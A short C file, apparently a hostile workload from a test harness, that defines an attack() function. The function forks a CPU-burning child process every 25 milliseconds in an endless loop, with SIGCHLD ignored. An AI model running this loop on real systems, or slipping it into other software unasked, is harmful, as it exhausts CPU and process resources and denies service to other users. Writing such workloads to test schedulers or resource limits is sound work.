#include "hostile.h"

int attack(void) {
    signal(SIGCHLD, SIG_IGN);
    for (;;) {
        if (!fork()) {
            burn(20);
            _exit(0);
        }
        usleep(25000);
    }
}
